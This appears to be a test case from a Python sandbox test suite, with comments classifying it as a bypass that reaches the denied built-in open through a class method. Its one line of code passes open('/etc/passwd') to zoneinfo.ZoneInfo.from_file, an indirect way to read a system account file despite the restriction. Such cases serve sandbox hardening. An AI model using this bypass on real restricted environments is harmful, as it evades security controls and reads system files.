# class: built-ins
# mechanism: denied built-in called
# how: given to a class method
# reaches: built-in open
import zoneinfo
zoneinfo.ZoneInfo.from_file(open("/etc/passwd"))
